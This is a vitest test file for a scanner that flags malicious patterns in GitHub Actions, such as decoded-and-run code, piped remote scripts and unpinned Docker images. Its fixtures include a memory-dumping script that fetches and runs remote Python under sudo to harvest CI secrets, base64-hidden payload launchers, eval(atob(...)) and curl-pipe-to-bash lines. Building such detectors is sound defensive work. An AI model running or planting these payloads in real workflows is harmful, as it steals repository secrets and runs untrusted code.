import { describe, expect, it } from 'vitest';
import type { ActionIdentity, ActionTree } from '../facts.ts';
import { MAX_JAVASCRIPT_FILES, MAX_JAVASCRIPT_TOTAL, MAX_SCRIPT } from './limits.ts';
import { readAction, type StaticReading } from './read-action.ts';

const IDENTITY: ActionIdentity = {
  owner: 'acme',
  name: 'tool',
  path: '',
  commit: 'a'.repeat(40),
  repositoryId: 1,
  ownerId: 2,
};

function read(
  files: Readonly<Record<string, string>>,
  { path = '', ...tree }: Partial<ActionTree> & { readonly path?: string } = {},
): StaticReading {
  const reading = readAction(
    { paths: Object.keys(files), files: new Map(Object.entries(files)), omitted: new Set(), ...tree },
    { ...IDENTITY, path },
  );
  if (reading === undefined) throw new Error('There is no action.');
  return reading;
}

const hitsOf = ({ hits }: StaticReading): Record<string, number> =>
  Object.fromEntries([...hits].map(([signal, sentences]) => [signal, sentences.length]));
const gapsOf = ({ gaps }: StaticReading): Record<string, string> =>
  Object.fromEntries([...gaps].map(([signal, { reason }]) => [signal, reason]));
const gap = (reason: string) => ({ 'malicious-code-shape': reason, 'remote-code-unverified': reason });

const NODE = 'name: A\ndescription: A\nruns:\n  using: node24\n  main: index.js\n';
const composite = (...scripts: readonly string[]): string =>
  `name: A\ndescription: A\nruns:\n  using: composite\n  steps:\n${scripts
    .map((script) => `    - run: ${JSON.stringify(script)}\n      shell: bash\n`)
    .join('')}`;
const DOCKER = 'name: A\ndescription: A\nruns:\n  using: docker\n  image: Dockerfile\n';
const EVIL = 'eval(atob(data))';
const INSTALL = 'curl -s https://example.com/i.sh | bash';

const MEMDUMP = `if [[ "$OSTYPE" == "linux-gnu" ]]; then
  B64_BLOB=\`curl -sSf https://gist.example.com/raw/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0 | base64 -w 0\`
  echo $B64_BLOB
else
  exit 0
fi
`;

describe('an attack in a bundle', () => {
  it('is found where a shell gets it in base64, with what it downloads', () => {
    const code = `async function updateFeatures(token) {
      const {stdout, stderr} = await exec.getExecOutput('bash', ['-c', \`echo "${btoa(MEMDUMP)}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\`], {ignoreReturnCode: true, silent: true});
      core.info(stdout);
    }`;
    const reading = read({ 'action.yml': NODE, 'index.js': `${'const a = 1;\n'.repeat(500)}${code}` });
    expect(hitsOf(reading)).toMatchObject({ 'malicious-code-shape': 1, 'remote-code-unverified': 1 });
    expect(reading.hits.get('malicious-code-shape')?.[0]).toMatchObject({ place: 'index.js:502' });
  });

  it('is found where a step of a composite action decodes it', () => {
    const step = `echo "${btoa(MEMDUMP)}" | base64 -d > /tmp/a.sh; bash /tmp/a.sh`;
    expect(hitsOf(read({ 'action.yml': composite(step) }))).toEqual({
      'malicious-code-shape': 1,
      'remote-code-unverified': 1,
    });
  });

  it('is no decoded file that nothing runs', () => {
    const script = (rest: string): string => `echo "${btoa(MEMDUMP)}" | base64 -d > /tmp/a.sh; ${rest}`;
    expect(
      hitsOf(read({ 'action.yml': composite('$GITHUB_ACTION_PATH/s.sh'), 's.sh': script('cat /tmp/a.sh') }))[
        'malicious-code-shape'
      ],
    ).toBeUndefined();
    expect(
      hitsOf(read({ 'action.yml': composite('$GITHUB_ACTION_PATH/s.sh'), 's.sh': script('bash /tmp/a.shx') }))[
        'malicious-code-shape'
      ],
    ).toBeUndefined();
    expect(
      hitsOf(read({ 'action.yml': composite('$GITHUB_ACTION_PATH/s.sh'), 's.sh': script('bash /tmp/a.sh') }))[
        'malicious-code-shape'
      ],
    ).toBe(1);
  });

  it('is found in what entry points load, before and after the main one', () => {
    const action = NODE.replace('main: index.js', 'main: index.js\n  pre: ./pre.js\n  post: dist/post.js');
    const clean = {
      'action.yml': action,
      'index.js': 'require("./lib/a")',
      'lib/a.js': 'import("../b.mjs")',
      'pre.js': '',
      'dist/post.js': '',
      'b.mjs': '',
    };
    expect(hitsOf(read(clean))['malicious-code-shape']).toBeUndefined();
    for (const file of ['index.js', 'lib/a.js', 'pre.js', 'dist/post.js', 'b.mjs']) {
      const reading = read({ ...clean, [file]: `${clean[file as keyof typeof clean]};${EVIL}` });
      expect(reading.hits.get('malicious-code-shape'), file).toEqual([
        { what: 'It runs code that it decodes', place: `${file}:1` },
      ]);
    }
    expect(hitsOf(read({ ...clean, 'unused.js': EVIL }))['malicious-code-shape']).toBeUndefined();
  });

  it('is found in scripts that steps and images run', () => {
    const steps = composite(
      '"$GITHUB_ACTION_PATH/setup.sh"',
      'python ${{ github.action_path }}/run.py',
      'node ${GITHUB_ACTION_PATH}/x.js',
    );
    const files = { 'action.yml': steps, 'setup.sh': '', 'run.py': '', 'x.js': '' };
    expect(hitsOf(read(files))).toEqual({});
    expect(hitsOf(read({ ...files, 'setup.sh': INSTALL }))).toEqual({ 'remote-code-unverified': 1 });
    expect(hitsOf(read({ ...files, 'run.py': 'exec(base64.b64decode(data))' }))).toEqual({ 'malicious-code-shape': 1 });
    expect(hitsOf(read({ ...files, 'x.js': EVIL }))).toEqual({ 'malicious-code-shape': 1 });
    const image = {
      'action.yml': DOCKER,
      Dockerfile: 'FROM scratch\nCOPY entrypoint.sh /\nENTRYPOINT ["/entrypoint.sh"]\n',
      'entrypoint.sh': INSTALL,
    };
    expect(hitsOf(read(image))).toEqual({ 'remote-code-unverified': 1 });
  });

  it('is not hidden by comments that suppress findings', () => {
    const text = composite(INSTALL).replace('    - run', '    # chainbreak: ignore[unverified-script-exec]\n    - run');
    expect(hitsOf(read({ 'action.yml': text }))).toEqual({ 'remote-code-unverified': 1 });
  });
});

describe('where an action is', () => {
  it('is in its folder, under either name, or is a Dockerfile alone', () => {
    expect(read({ 'sub/action.yaml': composite(INSTALL), 'action.yml': NODE }, { path: 'sub' }).kind).toBe('composite');
    expect(read({ Dockerfile: 'FROM alpine\n' })).toMatchObject({ kind: 'docker' });
    expect(hitsOf(read({ Dockerfile: 'FROM alpine\n' }))).toEqual({ 'dockerfile-from-unpinned': 1 });
    expect(() => read({ 'README.md': '' })).toThrow();
  });

  it('goes on in actions of the same repository that it calls', () => {
    const outer = 'name: A\ndescription: A\nruns:\n  using: composite\n  steps:\n    - uses: $/inner\n';
    expect(hitsOf(read({ 'action.yml': outer, 'inner/action.yml': composite(INSTALL) }))).toEqual({
      'remote-code-unverified': 1,
    });
    const loop = outer.replace('$/inner', '$/.');
    expect(hitsOf(read({ 'action.yml': loop }))).toEqual({});
  });

  it('counts the findings of all rules in its definitions by severity', () => {
    const { findingCounts } = read({
      'action.yml': composite('echo "${{ github.event.issue.title }}"', 'echo "${{ inputs.a }}"'),
    });
    expect(findingCounts).toEqual({ HIGH: 1, MEDIUM: 0, LOW: 1, INFO: 1 });
  });
});

describe('what cannot be read is unknown', () => {
  const large = ' '.repeat(MAX_JAVASCRIPT_TOTAL / 2 + 1);
  const many = Object.fromEntries(
    Array.from({ length: MAX_JAVASCRIPT_FILES + 1 }, (_, index) => [`m${index}.js`, `require("./m${index + 1}")`]),
  );
  it.each<[what: string, files: Record<string, string>, tree: Partial<ActionTree>, gaps: Record<string, string>]>([
    ['an entry point that was left out', { 'action.yml': NODE }, { omitted: new Set(['index.js']) }, gap('too_large')],
    ['an entry point that does not exist', { 'action.yml': NODE }, {}, gap('not_supported')],
    [
      'a file that is loaded and was left out',
      { 'action.yml': NODE, 'index.js': 'require("./a.js")' },
      { paths: ['action.yml', 'index.js', 'a.js'], omitted: new Set(['a.js']) },
      gap('too_large'),
    ],
    ['no JavaScript', { 'action.yml': NODE, 'index.js': 'no JavaScript' }, {}, gap('not_supported')],
    [
      'files that are too large together',
      { 'action.yml': NODE, 'index.js': `require("./a");${large}`, 'a.js': large },
      {},
      gap('too_large'),
    ],
    ['too many files', { 'action.yml': NODE, 'index.js': 'require("./m0")', ...many }, {}, gap('too_large')],
    [
      'a committed node_modules',
      { 'action.yml': NODE, 'index.js': 'require("@acme/a/b"); require("fs")' },
      { paths: ['action.yml', 'index.js', 'node_modules/@acme/a/package.json'] },
      gap('not_supported'),
    ],
    [
      'a script that is too large',
      { 'action.yml': composite('$GITHUB_ACTION_PATH/a.sh'), 'a.sh': '#'.repeat(MAX_SCRIPT + 1) },
      {},
      gap('too_large'),
    ],
    [
      'an image whose Dockerfile was left out',
      { 'action.yml': DOCKER },
      { omitted: new Set(['Dockerfile']) },
      { ...gap('too_large'), 'dockerfile-from-unpinned': 'too_large' },
    ],
  ])('%s', (_what, files, tree, gaps) => {
    expect(gapsOf(read(files, tree))).toEqual(gaps);
  });

  it('a definition that is broken, in every signal but those of the image', () => {
    expect(Object.keys(gapsOf(read({ 'action.yml': 'runs: [' })))).toHaveLength(13);
  });

  it('does not hide what was found', () => {
    const reading = read({ 'action.yml': NODE, 'index.js': `require("./a.js");${EVIL}`, 'a.js': 'no JavaScript' });
    expect(hitsOf(reading)).toEqual({ 'malicious-code-shape': 1 });
  });
});
